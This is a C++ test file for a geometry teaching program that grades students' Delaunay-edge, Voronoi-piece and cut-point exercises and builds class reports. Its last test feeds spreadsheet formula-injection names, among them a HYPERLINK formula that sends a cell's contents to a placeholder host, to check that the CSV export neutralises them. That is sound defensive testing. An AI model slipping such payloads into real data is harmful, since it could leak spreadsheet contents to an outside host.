#include "exercises/exercise.h"

#include <gmpxx.h>
#include <gtest/gtest.h>

#include <QDir>
#include <QJsonDocument>
#include <QTemporaryDir>
#include <algorithm>
#include <set>

#include "exercises/class_report.h"
#include "exercises/results_file.h"
#include "geometry/window_frame.h"
#include "run/accepted_sites.h"
#include "steps/literal_steps.h"
#include "support/pictures.h"
#include "support/programs.h"
#include "support/results_files.h"
#include "support/run_counts.h"

namespace {

using app::EdgeProof;
using geometry::kWindowFrame;
using Exact = mpq_class;

geometry::SiteColumns columns(const app::SitePositions& sites) {
  const auto accepted = app::acceptedSites(sites);
  EXPECT_TRUE(accepted.has_value());
  return *accepted;
}

Exact squaredDistance(const geometry::SiteColumns& sites, int k, const app::Point& centre) {
  const Exact dx = Exact(sites.x(k)) - Exact(centre.x);
  const Exact dy = Exact(static_cast<double>(sites.y(k))) - Exact(centre.y);
  return dx * dx + dy * dy;
}

// The circle about `centre` through the farther of sites i and j holds no other site, and
// the nearer lies on it but for the rounding of the centre: exactly checked.
void expectEmptyCircle(const geometry::SiteColumns& sites, int i, int j, const app::Point& centre) {
  const Exact toI = squaredDistance(sites, i, centre), toJ = squaredDistance(sites, j, centre);
  const Exact radius = std::max(toI, toJ);
  EXPECT_LT(Exact(abs(toI - toJ) / radius).get_d(), 1e-9) << i << "-" << j;
  for (int k = 1; k <= sites.nSites; ++k) {
    if (k != i && k != j) {
      EXPECT_GT(squaredDistance(sites, k, centre), radius) << "site " << k << " inside";
    }
  }
}

// Exactly: site d lies inside the circle through a, b and c (the incircle determinant, its
// sign turned by the orientation of a, b, c).
bool insideCircle(const geometry::SiteColumns& sites, int a, int b, int c, int d) {
  const auto x = [&](int s) { return Exact(sites.x(s)); };
  const auto y = [&](int s) { return Exact(static_cast<double>(sites.y(s))); };
  const Exact adx = x(a) - x(d), ady = y(a) - y(d), bdx = x(b) - x(d), bdy = y(b) - y(d),
              cdx = x(c) - x(d), cdy = y(c) - y(d);
  const Exact det = (adx * adx + ady * ady) * (bdx * cdy - cdx * bdy) -
                    (bdx * bdx + bdy * bdy) * (adx * cdy - cdx * ady) +
                    (cdx * cdx + cdy * cdy) * (adx * bdy - bdx * ady);
  const Exact orientation = (x(b) - x(a)) * (y(c) - y(a)) - (y(b) - y(a)) * (x(c) - x(a));
  return sgn(det) * sgn(orientation) > 0;
}

void expectHeldCircles(const geometry::SiteColumns& sites, int i, int j, const EdgeProof& proof) {
  ASSERT_EQ(proof.verdict, EdgeProof::Verdict::HeldCircles) << i << "-" << j;
  EXPECT_TRUE(insideCircle(sites, i, j, proof.k, proof.l)) << i << "-" << j;
  EXPECT_TRUE(insideCircle(sites, i, j, proof.l, proof.k)) << i << "-" << j;
}

// Hand-made layouts, one for each kind of proof, checked by hand: a site on the segment; a
// kite whose long diagonal 1-2 has sites 3 and 4 close on either side, so that the circle
// through 1, 2 and 3 holds 4 and the other way round; and the kite's short diagonal 3-4, an
// edge with an empty circle, which a drawing of the long one alone misses.
TEST(Exercises, HandMadeProofsOfEachKind) {
  const geometry::SiteColumns onSegment = columns({{100, 100}, {300, 300}, {200, 200}});
  const EdgeProof through = app::delaunayProof(onSegment, 1, 2);
  EXPECT_EQ(through.verdict, EdgeProof::Verdict::SiteOnSegment);
  EXPECT_EQ(through.k, 3);

  const geometry::SiteColumns kite = columns({{100, 200}, {400, 210}, {250, 150}, {255, 260}});
  ASSERT_EQ(app::layoutProblem(kite), std::nullopt);
  const EdgeProof held = app::delaunayProof(kite, 1, 2);
  expectHeldCircles(kite, 1, 2, held);
  EXPECT_EQ(std::set({held.k, held.l}), std::set({3, 4}));
  // The circle through 1, 2 and k, about its centre: 2 on it, l inside.
  const auto off = [&](int s, const app::Point& c) { return squaredDistance(kite, s, c).get_d(); };
  EXPECT_NEAR(off(2, held.centreK), off(1, held.centreK), 1e-3);
  EXPECT_LT(off(held.l, held.centreK), off(1, held.centreK));
  EXPECT_LT(off(held.k, held.centreL), off(1, held.centreL));

  const auto verdicts = app::gradeDrawing(kite, {{2, 1}, {1, 2}});
  ASSERT_EQ(verdicts.size(), 1 + 5u) << "1-2 once; the five kite edges missed";
  EXPECT_EQ(verdicts[0].line, "wrong edge 1-2: the circle through 1, 2 and " +
                                  std::to_string(held.k) + " holds " + std::to_string(held.l) +
                                  ", and the circle through 1, 2 and " + std::to_string(held.l) +
                                  " holds " + std::to_string(held.k) +
                                  ", so every circle through 1 and 2 holds " +
                                  std::to_string(held.k) + " or " + std::to_string(held.l));
  for (std::size_t n = 1; n < verdicts.size(); ++n) {
    EXPECT_EQ(verdicts[n].is, app::Verdict::Is::Missed);
    EXPECT_TRUE(verdicts[n].line.starts_with("missed edge ")) << verdicts[n].line;
    expectEmptyCircle(kite, verdicts[n].pair.first, verdicts[n].pair.second,
                      verdicts[n].proof->centre);
  }
  const app::Score score = app::scoreOf(app::ExerciseKind::DelaunayEdges, verdicts);
  EXPECT_EQ(score.score, 0) << "never below zero";
  EXPECT_EQ(score.outOf, 5);
}

// On seeded exercise layouts: each is away from ties and draws exactly its Delaunay edges;
// the program's own edges grade all right; each edge left out is missed with an empty
// circle, and each pair added that is no edge is wrong with two circles that hold each
// other, both confirmed in exact arithmetic.
TEST(Exercises, SeededLayoutsGradeTheirOwnEdgesRightAndProveEveryMistake) {
  constexpr std::uint32_t kLayouts = testing_support::runCount(200, 20);
  std::set<std::size_t> sizes;
  for (std::uint32_t seed = 1; seed <= kLayouts; ++seed) {
    const app::SitePositions positions = app::exerciseLayout(seed);
    sizes.insert(positions.size());
    ASSERT_GE(positions.size(), 5u);
    ASSERT_LE(positions.size(), 12u);
    for (const app::SitePosition& site : positions) {
      EXPECT_LE(site.y, 475 - app::kSentenceBand) << "the sentence band stays clear";
    }
    const geometry::SiteColumns sites = columns(positions);
    ASSERT_EQ(app::layoutProblem(sites), std::nullopt) << "seed " << seed;
    const app::DelaunayEdges delaunay = app::delaunayEdges(sites);
    const auto all = app::gradeDrawing(sites, delaunay.edges);
    ASSERT_EQ(all.size(), delaunay.edges.size());
    EXPECT_TRUE(std::all_of(all.begin(), all.end(),
                            [](const app::Verdict& v) { return v.is == app::Verdict::Is::Right; }));
    // Every edge's own empty circle, found without a centre to prefer: on the hull, where
    // every other site lies on one side, the circle bulges away from them.
    for (const auto& [i, j] : delaunay.edges) {
      const EdgeProof proof = app::delaunayProof(sites, i, j);
      ASSERT_EQ(proof.verdict, EdgeProof::Verdict::Edge);
      expectEmptyCircle(sites, i, j, proof.centre);
    }
    for (std::size_t left = 0; left < delaunay.edges.size(); ++left) {
      std::vector<app::EdgeAnswer> drawn = delaunay.edges;
      drawn.erase(drawn.begin() + static_cast<std::ptrdiff_t>(left));
      const app::Verdict missed = app::gradeDrawing(sites, drawn).back();
      ASSERT_EQ(missed.is, app::Verdict::Is::Missed);
      EXPECT_EQ(missed.pair, delaunay.edges[left]);
      expectEmptyCircle(sites, missed.pair.first, missed.pair.second, missed.proof->centre);
    }
    for (int i = 1; i < sites.nSites; ++i) {
      for (int j = i + 1; j <= sites.nSites; ++j) {
        if (std::find(delaunay.edges.begin(), delaunay.edges.end(), app::EdgeAnswer{i, j}) ==
            delaunay.edges.end()) {
          const auto verdicts = app::gradeDrawing(sites, {{i, j}});
          EXPECT_EQ(verdicts.front().is, app::Verdict::Is::Wrong);
          expectHeldCircles(sites, i, j, *verdicts.front().proof);
        }
      }
    }
    // The cut questions ask for points inside the picture; a click beside one says how far.
    for (const app::CutAnswer& question : app::cutQuestions(sites, seed)) {
      const auto competitors =
          geometry::explainPair(kWindowFrame, sites, question.i, question.j).competitors;
      const auto step = std::find_if(competitors.begin(), competitors.end(),
                                     [&](const auto& c) { return c.site == question.k; });
      ASSERT_NE(step, competitors.end());
      if (step->outcome == geometry::Screening::Cut) {
        EXPECT_TRUE(kWindowFrame.shows(step->x, step->y)) << "seed " << seed;
        app::CutAnswer beside = question;
        beside.says = app::CutAnswer::Says::At;
        beside.x = kWindowFrame.windowX(step->x) + 6;
        beside.y = kWindowFrame.windowY(step->y) + 8;
        EXPECT_NE(app::gradeCut(sites, beside).line.find(", 10 px away (within 3 px counts)"),
                  std::string::npos)
            << app::gradeCut(sites, beside).line;
      }
    }
  }
  EXPECT_EQ(*sizes.begin(), 5u);
  EXPECT_EQ(*sizes.rbegin(), 12u) << "layouts of every size come, the largest too";
}

}  // namespace

namespace {

using testing_support::drawingFile;
using testing_support::layoutOf;

// Files that are not results files, each refused with its reason; a results file reads back
// as it was written; and a class's files are graded with the unreadable, the malformed and
// the tied layouts named and skipped.
TEST(Exercises, ResultsFilesReadBackAndBadOnesAreSkippedWithTheirReason) {
  const QByteArray three = "[[100, 100], [300, 120], [200, 300]]";
  const std::pair<QByteArray, const char*> bad[] = {
      {"not json", "not JSON"},
      {"[1, 2]", "no JSON object"},
      {drawingFile("[[1e400, 2], [3, 4]]", "[]"), "not JSON: a number out of range"},
      {R"({"kind": "circles"})", "\"kind\""},
      {R"({"kind": "cut-point", "seed": -1})", "\"seed\""},
      {drawingFile("[[1, 2]]", "[]"), "\"sites\""},
      {drawingFile("[[100, 100], [1]]", "[]"), "site 2 is not [x, y]"},
      {drawingFile("[[100, 100], [900, 10]]", "[]"), "rules of a site list"},
      {drawingFile(three, "[[1, 9]]"), "answer 1 is not a site number from 1 to 3"},
      {drawingFile(three, "[[2, 2]]"), "pairs site 2 with itself"},
      {drawingFile(three, "{}"), "\"answers\" is not a list"},
      {R"({"kind": "voronoi-piece", "seed": 1, "sites": )" + three +
           R"(, "answers": [{"pair": [1, 2], "answer": "some"}], "score": 0})",
       "neither a piece number nor \"none\""},
      {R"({"kind": "cut-point", "seed": 1, "sites": )" + three +
           R"(, "answers": [{"pair": [1, 2], "site": 2, "answer": "passes"}], "score": 0})",
       "the site is one of the pair"},
      {drawingFile(three, "[]").replace("\"score\": 0", "\"score\": \"x\""), "\"score\""},
  };
  for (const auto& [bytes, reason] : bad) {
    const auto parsed = app::parseResults(bytes.toStdString());
    ASSERT_TRUE(std::holds_alternative<std::string>(parsed)) << bytes.toStdString();
    EXPECT_NE(std::get<std::string>(parsed).find(reason), std::string::npos)
        << std::get<std::string>(parsed);
  }

  app::ExerciseResults cuts;
  cuts.kind = app::ExerciseKind::CutPoint;
  cuts.name = "Lin \"L\", 2b";
  cuts.seed = 7;
  cuts.sites = app::exerciseLayout(7);
  cuts.cuts = {{1, 2, 3, app::CutAnswer::Says::At, 310.5, 200.25},
               {1, 3, 2, app::CutAnswer::Says::Blocks}};
  cuts.score = 1;
  const auto back = app::parseResults(app::resultsJson(cuts));
  ASSERT_TRUE(std::holds_alternative<app::ExerciseResults>(back)) << std::get<std::string>(back);
  const app::ExerciseResults& read = std::get<app::ExerciseResults>(back);
  EXPECT_EQ(std::tuple(read.name, read.seed, read.sites, read.score),
            std::tuple(cuts.name, cuts.seed, cuts.sites, cuts.score));
  ASSERT_EQ(read.cuts.size(), 2u);
  EXPECT_EQ(std::tuple(read.cuts[0].k, read.cuts[0].x, read.cuts[0].y),
            std::tuple(3, 310.5, 200.25));
  EXPECT_EQ(read.cuts[1].says, app::CutAnswer::Says::Blocks);

  QTemporaryDir dir;
  const auto write = [&](const QString& name, const QByteArray& bytes) {
    QFile file(dir.filePath(name));
    EXPECT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
    return file.fileName().toStdString();
  };
  const std::string good = write("good.json", QByteArray::fromStdString(app::resultsJson(cuts)));
  const std::string broken = write("broken.json", "{");
  // Four sites on the circle of radius 100 about (400, 250): which diagonal is an edge is a tie.
  const std::string tied = write(
      "tied.json", drawingFile("[[460, 330], [320, 310], [340, 170], [480, 190]]", "[[1, 3]]"));
  const std::string missing = dir.filePath("missing.json").toStdString();
  // A class's folder: its results files in name order, one of them claiming seed 5 over
  // another seed's sites; a folder without any.
  ASSERT_TRUE(QDir(dir.path()).mkpath("class/empty"));
  const std::string ada = write("class/ada.json", drawingFile(layoutOf(5), "[[1, 2]]", 0, 5));
  const std::string bob = write("class/bob.json", drawingFile(layoutOf(6), "[[1, 2]]", 0, 5));
  write("class/notes.txt", "not a results file");
  const std::string empty = dir.filePath("class/empty").toStdString();
  const app::ClassReport report = app::gradeFiles(
      {good, broken, tied, missing, dir.filePath("class").toStdString(), empty, "/dev/zero"},
      app::ReportForm::Table);
  EXPECT_EQ(report.skipped, 6);
  EXPECT_TRUE(report.lines.find(good + ",\"Lin \"\"L\"\", 2b\",cut-point,") != std::string::npos)
      << report.lines;
  EXPECT_TRUE(report.lines.find(ada + ",,delaunay-edges,5,") != std::string::npos) << report.lines;
  EXPECT_TRUE(report.lines.find(bob + ",,,,,,,,,,sites are not seed 5's layout: no grade\n") !=
              std::string::npos)
      << "a skipped file is a row of the table too: " << report.lines;
  for (const auto& [file, reason] :
       {std::pair{broken, "not JSON"},
        {tied, "four sites lie on one circle"},
        {missing, "cannot be read: No such file or directory"},
        {bob, "sites are not seed 5's layout"},
        {empty, "a folder without results files (.json)"},
        // A device claims no size: what is read is bounded all the same.
        {std::string("/dev/zero"), "larger than 16 MB"}}) {
    EXPECT_NE(report.problems.find(file + ": skipped: " + reason), std::string::npos)
        << report.problems;
  }
  const auto graded = testing_support::runProgram(
      {"--grade", QString::fromStdString(good), QString::fromStdString(broken)});
  EXPECT_EQ(graded.exitCode, 2);
  EXPECT_TRUE(graded.output.startsWith(QString::fromStdString(good) + ": "))
      << graded.output.toStdString();
  EXPECT_TRUE(graded.errors.contains(QString::fromStdString(broken) + ": skipped: not JSON"))
      << graded.errors.toStdString();
}

// The class summary of five drawings of seed 2's layout (edges 1-3 1-4 1-5 2-3 2-4 2-5 3-4
// 3-5): the mean and median score, and what most got wrong, hardest first, ties in the
// order they first came.
TEST(Exercises, TheClassSummarySaysWhatToExplainAgain) {
  const auto layout = app::exerciseLayout(2);
  ASSERT_EQ(app::delaunayEdges(columns(layout)).edges,
            (std::vector<app::EdgeAnswer>{
                {1, 3}, {1, 4}, {1, 5}, {2, 3}, {2, 4}, {2, 5}, {3, 4}, {3, 5}}));
  QTemporaryDir dir;
  const QByteArray all = "[1, 3], [1, 4], [1, 5], [2, 3], [2, 4], [2, 5], [3, 4]";
  const QByteArray drawings[] = {
      "[" + all + ", [3, 5]]",                                     // 8 of 8
      "[" + all + "]",                                             // 3-5 missed: 7
      "[[1, 3], [1, 4], [1, 5], [2, 3], [2, 5], [3, 4], [1, 2]]",  // 3-5, 2-4 missed, 1-2: 5
      "[" + all + ", [3, 5], [1, 2]]",                             // 1-2 wrong: 7
      "[[1, 3]]",                                                  // 1
  };
  for (std::size_t n = 0; n < std::size(drawings); ++n) {
    QFile file(dir.filePath(QStringLiteral("%1.json").arg(n)));
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(drawingFile(layoutOf(2), drawings[n], 0, 2));
  }
  const app::ClassReport report =
      app::gradeFiles({dir.path().toStdString()}, app::ReportForm::Summary);
  EXPECT_EQ(report.lines,
            "summary: 5 files graded, 0 skipped; mean score 70%, median 88%\n"
            "summary: delaunay-edges on seed 2, 5 files, what went wrong, hardest first:\n"
            "summary:   edge 3-5: 3 of 5 (missed 3)\n"
            "summary:   edge 2-4: 2 of 5 (missed 2)\n"
            "summary:   edge 1-2: 2 of 5 (wrong 2)\n"
            "summary:   edge 1-4: 1 of 5 (missed 1)\n"
            "summary:   edge 1-5: 1 of 5 (missed 1)\n"
            "summary:   edge 2-3: 1 of 5 (missed 1)\n"
            "summary:   edge 2-5: 1 of 5 (missed 1)\n"
            "summary:   edge 3-4: 1 of 5 (missed 1)\n");
}

// A results file is laid out as the JSON of every other tool: keys in alphabetical order,
// four spaces a level, one value a line, whole numbers without a fraction, the shortest
// digits for the others, and the text of a name as it was, whatever it holds.
TEST(Exercises, ResultsFilesAreLaidOutAsStandardIndentedJson) {
  app::ExerciseResults pieces;
  pieces.kind = app::ExerciseKind::VoronoiPiece;
  pieces.name = "Zo\xc3\xab \"Z\" \\ \t\x01";
  pieces.seed = 4294967295u;
  pieces.sites = {{100, 100}, {300.5, 120.25f}, {200.125, 300}};
  pieces.pieces = {{1, 2, 3}, {2, 3, 0}};
  pieces.score = -2;
  const std::string written = app::resultsJson(pieces);
  // Qt's JSON writer, another implementation, lays out the same document byte for byte.
  const QJsonDocument document = QJsonDocument::fromJson(QByteArray::fromStdString(written));
  ASSERT_TRUE(document.isObject()) << written;
  EXPECT_EQ(document.toJson(QJsonDocument::Indented).toStdString(), written);
  EXPECT_NE(written.find("\"seed\": 4294967295,"), std::string::npos) << written;
  EXPECT_NE(written.find("300.5,"), std::string::npos) << written;
  const auto back = app::parseResults(written);
  ASSERT_TRUE(std::holds_alternative<app::ExerciseResults>(back));
  EXPECT_EQ(std::get<app::ExerciseResults>(back).name, pieces.name);
}

// The class table: a cell a spreadsheet would run as a formula is kept as text, inside its
// quotes; every byte of a name reaches the table, a NUL too, and the files after it are not
// lost.
TEST(Exercises, TheClassTableRunsNoFormulaAndLosesNoLine) {
  QTemporaryDir dir;
  const QByteArray sites = layoutOf(1);
  QStringList files{"--grade", "--csv"};
  const char* names[] = {"=HYPERLINK(\\\"http://example.invalid/?x=\\\"&A1)",
                         "+1",
                         "-2",
                         "@SUM(A1)",
                         "\\tx",
                         "\\rx",
                         "a\\u0000b",
                         "Ada"};
  for (const char* name : names) {
    const QString path = dir.filePath(QString::number(files.size()) + ".json");
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(drawingFile(sites, "[[1, 2]]")
                   .replace(R"("name": "")", QByteArray(R"("name": ")") + name + "\""));
    files << path;
  }
  const auto graded = testing_support::runProgram(files);
  EXPECT_EQ(graded.exitCode, 0) << graded.errors.toStdString();
  const QStringList lines = graded.output.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
  ASSERT_EQ(lines.size(), 9) << graded.output.toStdString();
  const QString expected[] = {R"x("'=HYPERLINK(""http://example.invalid/?x=""&A1)")x",
                              R"("'+1")",
                              R"("'-2")",
                              "\"'@SUM(A1)\"",
                              "\"'\tx\"",
                              "\"'\rx\"",
                              QStringLiteral("a") + QChar(0) + "b",
                              "Ada"};
  for (int n = 0; n < 8; ++n) {
    EXPECT_TRUE(lines[n + 1].startsWith(files[n + 2] + "," + expected[n] + ",delaunay-edges,"))
        << lines[n + 1].toStdString();
  }
}

}  // namespace
